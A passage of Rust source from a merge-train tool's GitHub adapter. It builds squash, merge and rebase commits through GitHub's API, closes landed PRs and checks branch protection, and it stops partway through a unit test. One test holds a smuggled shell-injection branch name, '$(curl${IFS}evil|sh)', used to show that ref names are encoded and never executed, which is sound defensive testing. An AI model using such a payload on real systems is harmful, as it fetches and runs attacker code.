//! The merge train's side of the GitHub adapter: cars are built on staging
//! branches of sluice's own (`sluice/<branch>/<car>`) through GitHub's API
//! (`POST /git/refs`, `POST /merges`, `POST /git/commits`, `PATCH
//! /git/refs`), and land by a non-forced `PATCH` of the target branch, which
//! GitHub refuses if the target moved or a required check is missing.
//!
//! Status codes and messages, as GitHub answers them (the API description
//! in `testdata/github-api/`, GitHub's REST docs and its 2015 change notice
//! on protected branches):
//! - `POST /git/refs`: 201; 422 "Reference already exists".
//! - `PATCH /git/refs/heads/{ref}`: 200; 422 "Update is not a fast forward"
//!   (no `force`), 422 "Reference does not exist", and 422 with the
//!   protection's reason (`Required status check "sluice" is expected.`).
//! - `DELETE /git/refs/heads/{ref}`: 204; 422 "Reference does not exist".
//! - `POST /merges`: 201 (the merge commit), 204 (nothing to merge), 404
//!   (base or head missing), 409 (merge conflict).
//! - `GET /branches/{b}/protection/required_status_checks`: 200, or 404 when
//!   the branch is not protected or requires no checks; 403 without admin
//!   rights.
//! - `GET /compare/{base}...{head}`: 200 with `status` `identical`, `ahead`,
//!   `behind` or `diverged`; 404 for an unknown commit.
//!
//! - `GET /pulls/{n}/commits`: 200, at most 250 commits, oldest first.
//! - `PATCH /pulls/{n}` `{state: "closed"}`: 200 with the PR.
//! - `GET`/`POST /issues/{n}/comments`: 200 (a page) / 201.
//!
//! **Squash and rebase cars, through the API only.** GitHub has no
//! cherry-pick or rebase endpoint, but `POST /merges` is a real three-way
//! merge whose base is the best common ancestor. A squash step merges the
//! PR's head into the staging ref (GitHub computes the tree), then
//! replaces that merge by one commit with its tree and the previous tip as
//! only parent (`POST git/commits`, attributed to the author of the PR's
//! first commit, with `Co-authored-by` trailers for the others), and
//! force-moves the ref to it. A rebase step merges the PR's commits into
//! the staging ref one by one, in order: the ref then holds a chain of
//! merge commits M1 = tip + C1, M2 = M1 + C2, ..., and the merge base of
//! M(k-1) and Ck is C(k-1), Ck's parent, so the tree of Mk is exactly Ck's
//! change applied to the tree so far (a cherry-pick; for C1 the base is
//! where the PR left the target, its parent too). Each Ck is then
//! re-created with Mk's tree on the previous replayed commit, with Ck's
//! message and author, and the ref is force-moved to the last one. GitHub
//! reports a conflict at Ck as a 409, which names Ck; the ref is put back
//! where the car began. Merge commits of the PR are not replayed (as `git
//! rebase` does not); their changes come with the commits after them. A
//! squashed PR, or a replayed commit, that changes nothing on the tip
//! (its change is already there) adds no commit, so a PR landed twice
//! (closed, then seen open by a stale read) never adds empty commits.
//! Calls per PR: merge 1, squash 5, rebase 2 per commit + 4.
//!
//! Nothing here is retried on a 4xx; 5xx, timeouts and rate limits are
//! retried by [`GitHub::call`] like every other call. Each step is safe to
//! repeat: a merge that took effect but whose answer was lost comes back as
//! 204, and a squash or rebase step finds that merge at the tip (its
//! parents are the previous tip and the head it merged) and goes on from
//! it; a commit created twice is only an unreferenced object (the ref is
//! moved to the one whose answer came); a ref that exists is moved instead
//! of created, a fast-forward to where the branch already is answers 200.
//! A car build that fails half way is started again from scratch (the
//! driver puts the staging ref back at the parent first). Closing a landed
//! PR is a `PATCH` (the same twice is the same), and its comment carries a
//! hidden marker naming the landed sha: it is posted only if no comment
//! holds the marker, once per attempt (never blindly retried), and a
//! failed attempt reads the comments again before the next.

use super::{GitHub, Reply, enc, repo_path};
use crate::core::{MergeMethod, PrKey, RepoName, Sha, text, valid_branch_name};
use crate::forge::{CarStep, Forge, ForgeError, PrClose, PrFetch, RefUpdate, STAGING_PREFIX};
use http::{Method, StatusCode};
use serde_json::json;
use std::collections::{HashMap, HashSet};
use std::time::Instant;

/// GitHub lists at most this many commits of a PR.
pub const PR_COMMITS_LISTED: usize = 250;

/// `{ref, object: {sha}}` of a git ref.
#[derive(serde::Deserialize)]
struct RefBody {
    #[serde(rename = "ref")]
    name: String,
    object: ShaBody,
}

#[derive(serde::Deserialize)]
struct ShaBody {
    sha: String,
}

/// What sluice reads of a commit `POST /merges` made.
#[derive(serde::Deserialize)]
struct MergeCommitBody {
    sha: String,
    commit: MergeCommitInner,
    parents: Vec<ShaBody>,
}

#[derive(serde::Deserialize)]
struct MergeCommitInner {
    tree: ShaBody,
}

/// What sluice reads of a commit of the Git database.
#[derive(serde::Deserialize)]
struct GitCommitBody {
    sha: String,
    tree: ShaBody,
    parents: Vec<ShaBody>,
}

/// What sluice reads of `GET compare/{base}...{head}`.
#[derive(serde::Deserialize)]
struct CompareBody {
    status: String,
}

#[derive(serde::Deserialize)]
struct RequiredChecksBody {
    #[serde(default)]
    contexts: Vec<String>,
    #[serde(default)]
    checks: Vec<CheckBody>,
}

#[derive(serde::Deserialize)]
struct CheckBody {
    context: String,
}

/// A commit: its sha, tree and parents.
struct Commit {
    sha: Sha,
    tree: String,
    parents: Vec<Sha>,
}

/// One commit as `GET pulls/{n}/commits` lists it.
#[derive(serde::Deserialize)]
struct PrCommitBody {
    sha: String,
    commit: PrCommitInner,
    #[serde(default)]
    parents: Vec<ShaBody>,
}

#[derive(serde::Deserialize)]
struct PrCommitInner {
    message: String,
    author: Option<Person>,
}

/// A commit's author, as git records it.
#[derive(Clone, Debug, PartialEq, Eq, serde::Deserialize, serde::Serialize)]
pub struct Person {
    pub name: String,
    pub email: String,
    /// ISO 8601; kept when a commit is replayed.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub date: Option<String>,
}

/// What sluice keeps of a PR's commit.
#[derive(Clone, Debug)]
pub struct PrCommit {
    pub sha: Sha,
    pub parents: Vec<Sha>,
    pub message: String,
    pub author: Option<Person>,
}

#[derive(serde::Deserialize)]
struct CommentBody {
    #[serde(default)]
    body: Option<String>,
}

/// What came of merging a head into a staging ref.
enum Merged {
    /// The merge commit (parents: the previous tip, the head).
    Commit(Commit),
    /// Nothing to merge (the head is in the tip, which is `tip`).
    AlreadyIn { tip: Sha },
    /// GitHub's message.
    Conflict(String),
}

/// The commits of `listed` that `head` holds (itself and its ancestors
/// among them), parents before children; `None` if `head` is not listed.
pub fn commits_of(head: &Sha, listed: &[PrCommit]) -> Option<Vec<PrCommit>> {
    let by_sha: HashMap<&Sha, &PrCommit> = listed.iter().map(|c| (&c.sha, c)).collect();
    by_sha.get(head)?;
    let mut order = Vec::new();
    let mut seen: HashSet<&Sha> = HashSet::new();
    let mut stack: Vec<(&Sha, bool)> = vec![(head, false)];
    while let Some((sha, expanded)) = stack.pop() {
        if expanded {
            order.push(by_sha[sha].clone());
            continue;
        }
        if !seen.insert(sha) {
            continue;
        }
        stack.push((sha, true));
        // First parents first: reversed onto the stack.
        for parent in by_sha[sha].parents.iter().rev() {
            if by_sha.contains_key(parent) && !seen.contains(parent) {
                stack.push((parent, false));
            }
        }
    }
    Some(order)
}

/// A squash commit's message and author: `message`, then a
/// `Co-authored-by` trailer for each other author of `commits` (and each
/// co-author their messages name), first seen first, once per address; the
/// author is the first commit's.
pub fn squash_message(message: &str, commits: &[PrCommit]) -> (String, Option<Person>) {
    let author = commits.iter().find_map(|c| c.author.clone());
    let mut seen: HashSet<String> = HashSet::new();
    if let Some(a) = &author {
        seen.insert(a.email.to_ascii_lowercase());
    }
    let mut trailers = Vec::new();
    let mut add = |name: &str, email: &str| {
        let (name, email) = (name.trim(), email.trim());
        if !email.is_empty() && seen.insert(email.to_ascii_lowercase()) {
            trailers.push(format!("Co-authored-by: {name} <{email}>"));
        }
    };
    for c in commits {
        if let Some(a) = &c.author {
            add(&a.name, &a.email);
        }
        for line in c.message.lines() {
            if let Some((name, email)) = co_author(line) {
                add(name, email);
            }
        }
    }
    let message = message.trim_end();
    if trailers.is_empty() {
        (message.to_string(), author)
    } else {
        (format!("{message}\n\n{}", trailers.join("\n")), author)
    }
}

/// `Co-authored-by: Name <email>` (the key in any case): (name, email).
fn co_author(line: &str) -> Option<(&str, &str)> {
    let (key, value) = line.split_once(':')?;
    if !key.trim().eq_ignore_ascii_case("co-authored-by") {
        return None;
    }
    let value = value.trim();
    let (name, rest) = value.split_once('<')?;
    let email = rest.strip_suffix('>')?;
    (!email.contains(['<', '>'])).then_some((name, email))
}

/// The hidden marker of sluice's comment on a PR it closed after `landed`.
/// The marker of sluice's answer to comment `comment`.
pub(super) fn answer_marker(comment: u64) -> String {
    format!("<!-- sluice:answer {comment} -->")
}

fn landed_marker(landed: &Sha) -> String {
    format!("<!-- sluice:landed {landed} -->")
}

/// `heads/<name>` with each `/`-separated part percent-encoded, so a ref
/// name can never leave its place in the path.
fn heads_path(name: &str) -> String {
    let parts: Vec<String> = name.split('/').map(enc).collect();
    format!("heads/{}", parts.join("/"))
}

/// Refuses any name outside sluice's own staging refs.
pub(super) fn check_staging_name(what: &str, name: &str) -> Result<(), ForgeError> {
    let ok = name
        .strip_prefix(STAGING_PREFIX)
        .is_some_and(|rest| !rest.is_empty())
        && valid_branch_name(name);
    if ok {
        Ok(())
    } else {
        Err(ForgeError::Invalid {
            what: what.to_string(),
            message: format!(
                "{name:?} is not a staging ref of sluice's (they are valid branch names starting with {STAGING_PREFIX:?})"
            ),
        })
    }
}

fn parse_sha(what: &str, s: &str) -> Result<Sha, ForgeError> {
    Sha::parse(s).map_err(|e| ForgeError::Decode {
        what: what.to_string(),
        message: e.to_string(),
    })
}

/// Whether a 403/429 is the rate limit talking (not a permission).
fn rate_limited(reply: &Reply) -> bool {
    reply.status == StatusCode::TOO_MANY_REQUESTS
        || super::limit_wait(reply, std::time::SystemTime::now()).is_some()
}

impl GitHub {
    /// The sha a branch points at (`GET git/ref/heads/...`, conditional);
    /// `None` if there is no such branch.
    async fn ref_head(&self, repo: &RepoName, name: &str) -> Result<Option<Sha>, ForgeError> {
        let path = format!("{}/git/ref/{}", repo_path(repo), heads_path(name));
        let what = format!("GET {path}");
        Ok(self
            .get_cached(&path, |reply| {
                if reply.status == StatusCode::NOT_FOUND {
                    return Ok(None);
                }
                if !reply.status.is_success() {
                    return Err(reply.error(&what));
                }
                let body: RefBody = reply.decode(&what)?;
                parse_sha(&what, &body.object.sha).map(Some)
            })
            .await?
            .value)
    }

    async fn git_commit(&self, repo: &RepoName, sha: &Sha) -> Result<Commit, ForgeError> {
        let path = format!("{}/git/commits/{sha}", repo_path(repo));
        let what = format!("GET {path}");
        let reply = self
            .call(Method::GET, &path, None)
            .await?
            .expect_success(&what)?;
        let body: GitCommitBody = reply.decode(&what)?;
        Ok(Commit {
            sha: parse_sha(&what, &body.sha)?,
            tree: body.tree.sha,
            parents: body
                .parents
                .iter()
                .map(|p| parse_sha(&what, &p.sha))
                .collect::<Result<_, _>>()?,
        })
    }

    /// `PATCH git/refs/heads/<name>` with `force`; the raw reply.
    async fn patch_ref(
        &self,
        repo: &RepoName,
        name: &str,
        sha: &Sha,
        force: bool,
    ) -> Result<Reply, ForgeError> {
        let path = format!("{}/git/refs/{}", repo_path(repo), heads_path(name));
        let body = json!({"sha": sha.as_str(), "force": force});
        self.call(Method::PATCH, &path, Some(&body)).await
    }

    pub(super) async fn put_staging(
        &self,
        repo: &RepoName,
        name: &str,
        sha: &Sha,
    ) -> Result<(), ForgeError> {
        check_staging_name("put_staging_ref", name)?;
        // A car's ref is new more often than not: create first (one call),
        // move it only if it exists.
        let path = format!("{}/git/refs", repo_path(repo));
        let what = format!("POST {path}");
        let body = json!({"ref": format!("refs/heads/{name}"), "sha": sha.as_str()});
        let reply = self.call(Method::POST, &path, Some(&body)).await?;
        if reply.status == StatusCode::CREATED {
            return Ok(());
        }
        if reply.status != StatusCode::UNPROCESSABLE_ENTITY
            || !reply
                .message()
                .to_ascii_lowercase()
                .contains("already exists")
        {
            return Err(reply.error(&what));
        }
        let what = format!("PATCH {}/git/refs/{}", repo_path(repo), heads_path(name));
        self.patch_ref(repo, name, sha, true)
            .await?
            .expect_success(&what)?;
        Ok(())
    }

    pub(super) async fn merge_step(
        &self,
        repo: &RepoName,
        name: &str,
        pr: u64,
        head: &Sha,
        method: MergeMethod,
        message: &str,
    ) -> Result<CarStep, ForgeError> {
        check_staging_name("merge_into_staging", name)?;
        match method {
            MergeMethod::Merge => Ok(match self.merge_in(repo, name, head, message).await? {
                Merged::Commit(merge) => CarStep::Merged { sha: merge.sha },
                Merged::AlreadyIn { tip } => CarStep::NothingToMerge { sha: tip },
                Merged::Conflict(message) => CarStep::Conflict { message },
            }),
            MergeMethod::Squash => self.squash_step(repo, name, pr, head, message).await,
            MergeMethod::Rebase => self.rebase_step(repo, name, pr, head).await,
        }
    }

    /// `POST /merges` of `head` into staging ref `name`.
    async fn merge_in(
        &self,
        repo: &RepoName,
        name: &str,
        head: &Sha,
        message: &str,
    ) -> Result<Merged, ForgeError> {
        let path = format!("{}/merges", repo_path(repo));
        let what = format!("POST {path}");
        let body = json!({"base": name, "head": head.as_str(), "commit_message": message});
        let reply = self.call(Method::POST, &path, Some(&body)).await?;
        match reply.status.as_u16() {
            201 => {
                let body: MergeCommitBody = reply.decode(&what)?;
                Ok(Merged::Commit(Commit {
                    sha: parse_sha(&what, &body.sha)?,
                    tree: body.commit.tree.sha,
                    parents: body
                        .parents
                        .iter()
                        .map(|p| parse_sha(&what, &p.sha))
                        .collect::<Result<_, _>>()?,
                }))
            }
            204 => Ok(Merged::AlreadyIn {
                tip: self.staging_tip(repo, name).await?,
            }),
            409 if reply.message().to_ascii_lowercase().contains("conflict") => {
                Ok(Merged::Conflict(reply.message()))
            }
            _ => Err(reply.error(&what)),
        }
    }

    /// The sha staging ref `name` points at (it must exist).
    async fn staging_tip(&self, repo: &RepoName, name: &str) -> Result<Sha, ForgeError> {
        self.ref_head(repo, name)
            .await?
            .ok_or_else(|| ForgeError::Http {
                what: format!("GET {}/git/ref/{}", repo_path(repo), heads_path(name)),
                status: 404,
                message: "the staging ref is gone".into(),
            })
    }

    /// After a 204: the merge of `head` onto `previous` that a lost answer
    /// hid, if `tip` is one (`previous`: any tip, if `None`).
    async fn merge_at_tip(
        &self,
        repo: &RepoName,
        tip: &Sha,
        previous: Option<&Sha>,
        head: &Sha,
    ) -> Result<Option<Commit>, ForgeError> {
        let commit = self.git_commit(repo, tip).await?;
        let found = matches!(commit.parents.as_slice(),
            [first, second] if second == head && previous.is_none_or(|p| p == first));
        Ok(found.then_some(commit))
    }

    /// Every commit GitHub lists for PR `pr` (at most
    /// [`PR_COMMITS_LISTED`]), conditional like every repeated GET.
    pub(super) async fn pr_commits(
        &self,
        repo: &RepoName,
        pr: u64,
    ) -> Result<Vec<PrCommit>, ForgeError> {
        let first = format!("{}/pulls/{pr}/commits?per_page=100", repo_path(repo));
        let what = format!("GET {}/pulls/{pr}/commits", repo_path(repo));
        self.get_all_pages(first, |c: PrCommitBody| {
            Ok(PrCommit {
                sha: parse_sha(&what, &c.sha)?,
                parents: c
                    .parents
                    .iter()
                    .map(|p| parse_sha(&what, &p.sha))
                    .collect::<Result<_, _>>()?,
                message: c.commit.message,
                author: c.commit.author,
            })
        })
        .await
    }

    /// GitHub does not list `head` among the PR's commits: not yet (a push
    /// it is still taking in) or not any more (a push since). The car is
    /// built again later; meanwhile sluice learns of the push.
    fn not_listed(repo: &RepoName, pr: u64, head: &Sha) -> ForgeError {
        ForgeError::Decode {
            what: format!("GET {}/pulls/{pr}/commits", repo_path(repo)),
            message: format!("{head} is not among the PR's commits (it moved)"),
        }
    }

    /// `POST git/commits`: a commit of `tree` on `parent`.
    async fn new_commit(
        &self,
        repo: &RepoName,
        tree: &str,
        parent: &Sha,
        message: &str,
        author: Option<&Person>,
    ) -> Result<Sha, ForgeError> {
        let path = format!("{}/git/commits", repo_path(repo));
        let what = format!("POST {path}");
        let mut body = json!({
            "message": message,
            "tree": tree,
            "parents": [parent.as_str()],
        });
        if let Some(author) = author {
            body["author"] = json!(author);
        }
        let reply = self
            .call(Method::POST, &path, Some(&body))
            .await?
            .expect_success(&what)?;
        let created: ShaBody = reply.decode(&what)?;
        parse_sha(&what, &created.sha)
    }

    async fn force_staging(
        &self,
        repo: &RepoName,
        name: &str,
        sha: &Sha,
    ) -> Result<(), ForgeError> {
        let what = format!("PATCH {}/git/refs/{}", repo_path(repo), heads_path(name));
        self.patch_ref(repo, name, sha, true)
            .await?
            .expect_success(&what)?;
        Ok(())
    }

    /// One commit per PR: the merge's tree on the previous tip.
    async fn squash_step(
        &self,
        repo: &RepoName,
        name: &str,
        pr: u64,
        head: &Sha,
        message: &str,
    ) -> Result<CarStep, ForgeError> {
        // Read first: nothing has moved if this fails.
        let listed = self.pr_commits(repo, pr).await?;
        let commits = match commits_of(head, &listed) {
            Some(commits) => commits,
            // More than GitHub lists: the trailers name whom it lists.
            None if listed.len() >= PR_COMMITS_LISTED => listed,
            None => return Err(Self::not_listed(repo, pr, head)),
        };
        let (message, author) = squash_message(message, &commits);
        let merge = match self.merge_in(repo, name, head, &message).await? {
            Merged::Commit(merge) => merge,
            Merged::AlreadyIn { tip } => {
                // A merge whose answer was lost (and then retried) is
                // still to be squashed: it is the tip, with `head` as its
                // second parent.
                match self.merge_at_tip(repo, &tip, None, head).await? {
                    Some(merge) => merge,
                    None => return Ok(CarStep::NothingToMerge { sha: tip }),
                }
            }
            Merged::Conflict(message) => return Ok(CarStep::Conflict { message }),
        };
        let Some(previous) = merge.parents.first() else {
            return Err(ForgeError::Decode {
                what: format!("POST {}/merges", repo_path(repo)),
                message: format!("merge commit {} has no parent", merge.sha),
            });
        };
        // A PR whose change is already on the car ahead (its content
        // pushed to the target, say) adds no commit.
        if self.git_commit(repo, previous).await?.tree == merge.tree {
            self.force_staging(repo, name, previous).await?;
            return Ok(CarStep::NothingToMerge {
                sha: previous.clone(),
            });
        }
        let sha = self
            .new_commit(repo, &merge.tree, previous, &message, author.as_ref())
            .await?;
        self.force_staging(repo, name, &sha).await?;
        Ok(CarStep::Merged { sha })
    }

    /// Each of the PR's commits replayed on the previous tip (see the
    /// module documentation for how, through the API only).
    async fn rebase_step(
        &self,
        repo: &RepoName,
        name: &str,
        pr: u64,
        head: &Sha,
    ) -> Result<CarStep, ForgeError> {
        let listed = self.pr_commits(repo, pr).await?;
        if listed.len() >= PR_COMMITS_LISTED {
            // Some may be missing from the list: replaying what is listed
            // could drop them. It cannot be built: the PR leaves the train.
            return Ok(CarStep::Conflict {
                message: text::too_many_commits(PR_COMMITS_LISTED),
            });
        }
        let commits = commits_of(head, &listed).ok_or_else(|| Self::not_listed(repo, pr, head))?;
        let base = self.staging_tip(repo, name).await?;
        // The staging ref's tip (a chain of merges), the replayed commits'
        // tip and its tree.
        let mut chain = base.clone();
        let mut tip = base.clone();
        let mut tree = self.git_commit(repo, &base).await?.tree;
        for commit in commits.iter().filter(|c| c.parents.len() < 2) {
            let marker = format!("sluice: replaying {}", commit.sha);
            let merge = match self.merge_in(repo, name, &commit.sha, &marker).await? {
                Merged::Commit(merge) => merge,
                Merged::AlreadyIn { tip: now } if now == chain => {
                    // Already in what the car is built on: nothing to
                    // replay (as `git rebase` drops it).
                    continue;
                }
                Merged::AlreadyIn { tip: now } => {
                    match self
                        .merge_at_tip(repo, &now, Some(&chain), &commit.sha)
                        .await?
                    {
                        Some(merge) => merge,
                        None => {
                            return Err(ForgeError::Decode {
                                what: format!("POST {}/merges", repo_path(repo)),
                                message: format!(
                                    "{name} moved to {now} while {} was replayed onto {chain}",
                                    commit.sha
                                ),
                            });
                        }
                    }
                }
                Merged::Conflict(message) => {
                    if chain != base {
                        self.force_staging(repo, name, &base).await?;
                    }
                    return Ok(CarStep::Conflict {
                        message: text::commit_conflicts(&commit.sha, &message),
                    });
                }
            };
            chain = merge.sha;
            if merge.tree == tree {
                // It became empty (its change is already in): dropped, as
                // `git rebase` drops it.
                continue;
            }
            tip = self
                .new_commit(
                    repo,
                    &merge.tree,
                    &tip,
                    &commit.message,
                    commit.author.as_ref(),
                )
                .await?;
            tree = merge.tree;
        }
        if chain != tip {
            self.force_staging(repo, name, &tip).await?;
        }
        Ok(if tip == base {
            CarStep::NothingToMerge { sha: base }
        } else {
            CarStep::Merged { sha: tip }
        })
    }

    /// Closes PR `pr` if its head is still `head`, and comments once.
    pub(super) async fn close_landed(
        &self,
        pr: &PrKey,
        head: &Sha,
        landed: &Sha,
        comment: &str,
    ) -> Result<PrClose, ForgeError> {
        let outcome = match self.get_pr(pr).await? {
            None => {
                return Err(ForgeError::Http {
                    what: format!("GET {}/pulls/{}", repo_path(&pr.repo), pr.number),
                    status: 404,
                    message: "no such PR".into(),
                });
            }
            Some(PrFetch::Open(snapshot)) if snapshot.head_sha != *head => {
                return Ok(PrClose::HeadMoved {
                    head: snapshot.head_sha,
                });
            }
            Some(PrFetch::Open(_)) => {
                let path = format!("{}/pulls/{}", repo_path(&pr.repo), pr.number);
                let what = format!("PATCH {path}");
                self.call(Method::PATCH, &path, Some(&json!({"state": "closed"})))
                    .await?
                    .expect_success(&what)?;
                PrClose::Closed
            }
            Some(PrFetch::Closed { .. }) => PrClose::AlreadyClosed,
        };
        self.comment_once(pr, &landed_marker(landed), comment)
            .await?;
        Ok(outcome)
    }

    /// Posts `comment` with `marker` on PR `pr` unless a comment holds the
    /// marker. The POST is never retried blindly: after a failed one the
    /// comments are read again.
    pub(super) async fn comment_once(
        &self,
        pr: &PrKey,
        marker: &str,
        comment: &str,
    ) -> Result<(), ForgeError> {
        let path = format!("{}/issues/{}/comments", repo_path(&pr.repo), pr.number);
        let what = format!("POST {path}");
        let body = json!({"body": format!("{comment}\n\n{marker}")});
        let mut attempt = 0;
        loop {
            if self.commented(pr, marker).await? {
                return Ok(());
            }
            let result = self.call_once(Method::POST, &path, Some(&body)).await;
            let error = match result {
                Ok(reply) if reply.status.is_success() => return Ok(()),
                Ok(reply) if reply.status.is_client_error() => return Err(reply.error(&what)),
                Ok(reply) => reply.error(&what),
                Err(e) => e,
            };
            if attempt >= self.max_retries {
                return Err(error);
            }
            tracing::warn!(%error, attempt = attempt + 1, "commenting failed; reading the comments before trying again");
            tokio::time::sleep(super::backoff(self.backoff_base, attempt)).await;
            attempt += 1;
        }
    }

    /// Whether a comment on PR `pr` holds `marker`.
    async fn commented(&self, pr: &PrKey, marker: &str) -> Result<bool, ForgeError> {
        let first = format!(
            "{}/issues/{}/comments?per_page=100",
            repo_path(&pr.repo),
            pr.number
        );
        // What is kept of each comment (and cached): the markers it holds.
        let markers = self
            .get_all_pages(first, |c: CommentBody| {
                Ok(c.body
                    .unwrap_or_default()
                    .lines()
                    .filter(|l| l.trim_start().starts_with("<!-- sluice:"))
                    .map(|l| l.trim().to_string())
                    .collect::<Vec<String>>())
            })
            .await?;
        Ok(markers.iter().flatten().any(|m| m == marker))
    }

    pub(super) async fn move_target(&self, repo: &RepoName, branch: &str, sha: &Sha) -> RefUpdate {
        if !valid_branch_name(branch) {
            return RefUpdate::Failed {
                reason: format!("{branch:?} is not a branch name"),
            };
        }
        let what = format!("PATCH {}/git/refs/{}", repo_path(repo), heads_path(branch));
        let reply = match self.patch_ref(repo, branch, sha, false).await {
            Ok(reply) => reply,
            Err(e) => {
                return RefUpdate::Failed {
                    reason: e.to_string(),
                };
            }
        };
        let message = reply.message();
        match reply.status.as_u16() {
            200 => match reply.decode::<RefBody>(&what) {
                Ok(body) if body.object.sha.eq_ignore_ascii_case(sha.as_str()) => RefUpdate::Moved,
                Ok(body) => RefUpdate::Failed {
                    reason: format!(
                        "{what}: answered 200, but {} is at {}",
                        body.name, body.object.sha
                    ),
                },
                Err(e) => RefUpdate::Failed {
                    reason: e.to_string(),
                },
            },
            422 if message.to_ascii_lowercase().contains("not a fast forward") => {
                RefUpdate::NotFastForward
            }
            422 if message.to_ascii_lowercase().contains("does not exist") => RefUpdate::Failed {
                reason: reply.error(&what).to_string(),
            },
            // Branch protection (a required check, a rule), or a token
            // that may not push: GitHub's message says which.
            422 => self.refused_by_protection(repo, branch, message),
            403 if !rate_limited(&reply) => self.refused_by_protection(repo, branch, message),
            _ => RefUpdate::Failed {
                reason: reply.error(&what).to_string(),
            },
        }
    }

    /// The protection may have changed since it was read: it is read
    /// again before the next landing.
    fn refused_by_protection(&self, repo: &RepoName, branch: &str, reason: String) -> RefUpdate {
        self.lock_required_checks()
            .remove(&(repo.clone(), branch.to_string()));
        RefUpdate::Refused { reason }
    }

    /// `GET compare/{ancestor}...{descendant}`: `identical` or `ahead`
    /// (descendant has commits ancestor lacks, and not the other way) means
    /// it holds `ancestor`; 404 (a commit GitHub does not have, no common
    /// ancestor) means it does not.
    pub(super) async fn compare_holds(
        &self,
        repo: &RepoName,
        ancestor: &Sha,
        descendant: &Sha,
    ) -> Result<bool, ForgeError> {
        let path = format!("{}/compare/{ancestor}...{descendant}", repo_path(repo));
        let what = format!("GET {path}");
        let reply = self.call(Method::GET, &path, None).await?;
        if reply.status == StatusCode::NOT_FOUND {
            return Ok(false);
        }
        let body: CompareBody = reply.expect_success(&what)?.decode(&what)?;
        Ok(matches!(body.status.as_str(), "identical" | "ahead"))
    }

    pub(super) async fn delete_staging(
        &self,
        repo: &RepoName,
        name: &str,
    ) -> Result<(), ForgeError> {
        check_staging_name("delete_staging_ref", name)?;
        let path = format!("{}/git/refs/{}", repo_path(repo), heads_path(name));
        let what = format!("DELETE {path}");
        let reply = self.call(Method::DELETE, &path, None).await?;
        match reply.status.as_u16() {
            204 => Ok(()),
            // Gone already: what was asked for is true.
            422 if reply
                .message()
                .to_ascii_lowercase()
                .contains("does not exist") =>
            {
                Ok(())
            }
            _ => Err(reply.error(&what)),
        }
    }

    pub(super) async fn protection_checks(
        &self,
        repo: &RepoName,
        branch: &str,
    ) -> Result<Vec<String>, ForgeError> {
        let key = (repo.clone(), branch.to_string());
        if let Some((at, checks)) = self.lock_required_checks().get(&key)
            && at.elapsed() < super::REQUIRED_CHECKS_TTL
        {
            return Ok(checks.clone());
        }
        let checks = self.read_protection_checks(repo, branch).await?;
        self.lock_required_checks()
            .insert(key, (Instant::now(), checks.clone()));
        Ok(checks)
    }

    fn lock_required_checks(&self) -> std::sync::MutexGuard<'_, super::RequiredChecksCache> {
        self.required_checks
            .lock()
            .unwrap_or_else(std::sync::PoisonError::into_inner)
    }

    async fn read_protection_checks(
        &self,
        repo: &RepoName,
        branch: &str,
    ) -> Result<Vec<String>, ForgeError> {
        let path = format!(
            "{}/branches/{}/protection/required_status_checks",
            repo_path(repo),
            enc(branch)
        );
        let what = format!("GET {path}");
        Ok(self
            .get_cached(&path, |reply| {
                match reply.status.as_u16() {
                    // Not protected, or no checks required.
                    404 => return Ok(Vec::new()),
                    // Reading protection needs admin rights; without them
                    // the checks are not known (a refused landing will say).
                    403 if !rate_limited(reply) => return Ok(Vec::new()),
                    _ if !reply.status.is_success() => return Err(reply.error(&what)),
                    _ => {}
                }
                let body: RequiredChecksBody = reply.decode(&what)?;
                let mut contexts = body.contexts;
                for check in body.checks {
                    if !contexts.contains(&check.context) {
                        contexts.push(check.context);
                    }
                }
                Ok(contexts)
            })
            .await?
            .value)
    }

    pub(super) async fn list_staging(
        &self,
        repo: &RepoName,
    ) -> Result<Vec<(String, Sha)>, ForgeError> {
        let first = format!(
            "{}/git/matching-refs/{}/",
            repo_path(repo),
            heads_path(STAGING_PREFIX.trim_end_matches('/'))
        );
        let what = format!("GET {}", first);
        let mut refs: Vec<(String, Sha)> = self
            .get_all_pages(first, |r: RefBody| {
                let Some(name) = r.name.strip_prefix("refs/heads/") else {
                    return Ok(None);
                };
                if !name.starts_with(STAGING_PREFIX) {
                    return Ok(None);
                }
                Ok(Some((name.to_string(), parse_sha(&what, &r.object.sha)?)))
            })
            .await?
            .into_iter()
            .flatten()
            .collect();
        refs.sort();
        Ok(refs)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn staging_names_are_sluices_own_and_valid() {
        assert!(check_staging_name("t", "sluice/main/7").is_ok());
        assert!(check_staging_name("t", "sluice/feature/x/12").is_ok());
        // Legal, if odd: it is percent-encoded into the path, never run.
        assert!(check_staging_name("t", "sluice/$(curl${IFS}evil|sh)/1").is_ok());
        for bad in [
            "main",
            "sluice/",
            "sluice",
            "sluicex/main/1",
            "sluice/main/../x",
            "sluice/main//1",
            "sluice/ma in/1",
            "sluice/main/1.lock",
            "refs/heads/sluice/main/1",
        ] {
            assert!(check_staging_name("t", bad).is_err(), "{bad}");
        }
    }

    fn commit(sha: u32, parents: &[u32], message: &str, author: Option<(&str, &str)>) -> PrCommit {
        let id = |n: u32| Sha::parse(&format!("{n:040x}")).unwrap();
        PrCommit {
            sha: id(sha),
            parents: parents.iter().map(|p| id(*p)).collect(),
            message: message.into(),
            author: author.map(|(name, email)| Person {
                name: name.into(),
                email: email.into(),
                date: None,
            }),
        }
    }

    #[test]
    fn a_heads_commits_come_parents_first_whatever_the_listing_order() {
        // 1 <- 2 <- 4 (merge of 2 and 3), 1 <- 3; 5 is another head's.
        let listed = vec![
            commit(4, &[2, 3], "m", None),
            commit(3, &[1], "c", None),
            commit(5, &[4], "later", None),
            commit(2, &[1], "b", None),
            commit(1, &[0xff], "a", None),
        ];
        let head = listed[0].sha.clone();
        let order: Vec<String> = commits_of(&head, &listed)
            .unwrap()
            .into_iter()
            .map(|c| c.message)
            .collect();
        assert_eq!(order, ["a", "b", "c", "m"]);
        let missing = Sha::parse(&format!("{:040x}", 9)).unwrap();
        assert!(commits_of(&missing, &listed).is_none());
    }

    #[test]
    fn squash_messages_credit_every_other_author_once() {
        let commits = vec![
            commit(1, &[], "a", Some(("Ann", "ann@x.invalid"))),
            commit(
                2,
                &[1],
                "b\n\nco-authored-by: Cy <cy@x.invalid>",
                Some(("Bo", "bo@x.invalid")),
            ),
            commit(
                3,
                &[2],
                "c\nCo-authored-by: Ann Again <ANN@x.invalid>",
                Some(("Bo", "BO@x.invalid")),
            ),
            commit(4, &[3], "Co-authored-by: broken", None),
        ];
        let (message, author) = squash_message("Title (#4)\n", &commits);
        assert_eq!(
